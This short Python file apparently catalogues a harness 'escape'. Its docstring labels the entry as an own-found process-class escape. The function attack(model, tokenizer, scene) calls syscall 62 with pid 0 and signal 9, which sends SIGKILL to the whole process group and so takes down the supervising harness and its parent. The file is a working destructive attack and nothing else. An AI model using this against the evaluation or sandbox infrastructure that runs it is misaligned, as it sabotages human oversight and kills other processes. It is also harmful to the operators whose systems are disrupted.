"""Class: processes. Source: own find. Escape: the whole process group is killed, and the zygote
with it.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.syscall(62, 0, 9)
